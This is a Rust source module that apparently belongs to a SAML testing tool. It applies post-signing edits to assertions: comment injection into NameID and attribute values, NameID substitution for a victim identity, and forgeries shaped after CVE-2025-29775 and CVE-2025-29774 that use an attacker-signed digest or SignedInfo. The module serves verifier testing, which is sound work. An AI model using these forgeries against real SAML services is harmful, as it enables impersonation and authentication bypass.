//! The signed-assertion stage: byte-level edits of the first assertion after it is signed and
//! before it is wrapped or encrypted.
//!
//! Some of these keep the signature valid (a comment inside signed text is removed by exclusive
//! canonicalisation, so the digest still matches); the others break it in the precise shape of
//! a published vulnerability. Either way the edit is textual: the model cannot express a
//! comment node or a second `ds:SignedInfo`.

use super::stages::StageContext;
use crate::saml::mint::MintError;
use crate::saml::xml::{escape_attr, escape_text};

/// The empty comment the comment faults insert.
const COMMENT: &str = "<!---->";

/// `comment-in-name-id`: `<!---->` after `after` characters of the NameID text.
pub(crate) fn comment_in_name_id(assertion: &mut String, after: usize) {
    *assertion = insert_in_text_of(assertion, "<saml:NameID", "</saml:NameID>", after, COMMENT);
}

/// `comment-in-attribute`: `<!---->` after `after` characters of the named Attribute's first
/// value (no-op when the assertion has no such Attribute).
pub(crate) fn comment_in_attribute(assertion: &mut String, name: &str, after: usize) {
    let open = format!(r#"<saml:Attribute Name="{}""#, escape_attr(name));
    if let Some(pos) = assertion.find(&open) {
        let (head, tail) = assertion.split_at(pos);
        let tail = insert_in_text_of(
            tail,
            "<saml:AttributeValue",
            "</saml:AttributeValue>",
            after,
            COMMENT,
        );
        *assertion = format!("{head}{tail}");
    }
}

/// `tamper-after-signing`: the NameID becomes the victim's, so the digest no longer matches.
pub(crate) fn tamper_after_signing(
    assertion: &mut String,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    let v = cx.victim(victim)?;
    *assertion = replace_name_id(assertion, &v.name_id());
    Ok(())
}

/// `digest-value-comment` (CVE-2025-29775 shape): the NameID is tampered, and the digest of the
/// tampered assertion sits in a comment before the genuine one,
/// `<ds:DigestValue><!--forged-->ORIGINAL</ds:DigestValue>`, for a verifier that takes the
/// comment's text for the element's.
pub(crate) fn digest_value_comment(
    assertion: &mut String,
    cx: &StageContext<'_>,
) -> Result<(), MintError> {
    let (tampered, forged) = tamper_with_matching_signature(assertion, cx)?;
    *assertion = match element_text(&forged, "<ds:DigestValue>", "</ds:DigestValue>") {
        Some(d) => tampered.replacen(
            "<ds:DigestValue>",
            &format!("<ds:DigestValue><!--{d}-->"),
            1,
        ),
        None => tampered,
    };
    Ok(())
}

/// `two-signed-info` (CVE-2025-29774 shape): the NameID is tampered, and a second
/// `ds:SignedInfo`, whose digest matches the tampered assertion, follows the genuine one. A
/// correct verifier refuses a Signature with two.
pub(crate) fn two_signed_info(
    assertion: &mut String,
    cx: &StageContext<'_>,
) -> Result<(), MintError> {
    let (tampered, forged) = tamper_with_matching_signature(assertion, cx)?;
    *assertion = match element(&forged, "<ds:SignedInfo>", "</ds:SignedInfo>") {
        Some(si) => tampered.replacen("</ds:SignedInfo>", &format!("</ds:SignedInfo>{si}"), 1),
        None => tampered,
    };
    Ok(())
}

/// The signed assertion with its NameID changed to another identity's, and the model's first
/// assertion with the same change signed by the attacker key: the digest (and a SignedInfo)
/// that match the tampered content.
fn tamper_with_matching_signature(
    assertion: &str,
    cx: &StageContext<'_>,
) -> Result<(String, String), MintError> {
    let v = cx.victim(&None)?;
    let mut model = cx.model.assertions[0].clone();
    if let Some(n) = model.subject.as_mut().and_then(|s| s.name_id.as_mut()) {
        n.value = v.name_id();
    }
    let forged = cx.sign_assertion(&model, &cx.input.keys.attacker)?;
    Ok((replace_name_id(assertion, &v.name_id()), forged))
}

/// The first `open..close` element of `xml`, tags included.
fn element<'x>(xml: &'x str, open: &str, close: &str) -> Option<&'x str> {
    let s = xml.find(open)?;
    let e = xml[s..].find(close)? + s + close.len();
    Some(&xml[s..e])
}

/// The text of the first `open..close` element of `xml`.
fn element_text<'x>(xml: &'x str, open: &str, close: &str) -> Option<&'x str> {
    let s = xml.find(open)? + open.len();
    let e = xml[s..].find(close)? + s;
    Some(&xml[s..e])
}

/// Insert `ins` after `after` characters of the text of the first element that starts with
/// `open_tag_prefix` (at the end when the text is shorter).
fn insert_in_text_of(
    xml: &str,
    open_tag_prefix: &str,
    close_tag: &str,
    after: usize,
    ins: &str,
) -> String {
    let Some(open) = xml.find(open_tag_prefix) else {
        return xml.to_string();
    };
    let Some(gt) = xml[open..].find('>') else {
        return xml.to_string();
    };
    let text_start = open + gt + 1;
    let Some(close) = xml[text_start..].find(close_tag) else {
        return xml.to_string();
    };
    let text = &xml[text_start..text_start + close];
    let split = text
        .char_indices()
        .nth(after)
        .map(|(i, _)| i)
        .unwrap_or(text.len());
    format!(
        "{}{}{}{}",
        &xml[..text_start + split],
        ins,
        &text[split..],
        &xml[text_start + close..]
    )
}

/// The first NameID's text replaced by `new_value`.
fn replace_name_id(xml: &str, new_value: &str) -> String {
    let Some(open) = xml.find("<saml:NameID") else {
        return xml.to_string();
    };
    let Some(gt) = xml[open..].find('>') else {
        return xml.to_string();
    };
    let ts = open + gt + 1;
    let Some(close) = xml[ts..].find("</saml:NameID>") else {
        return xml.to_string();
    };
    format!(
        "{}{}{}",
        &xml[..ts],
        escape_text(new_value),
        &xml[ts + close..]
    )
}
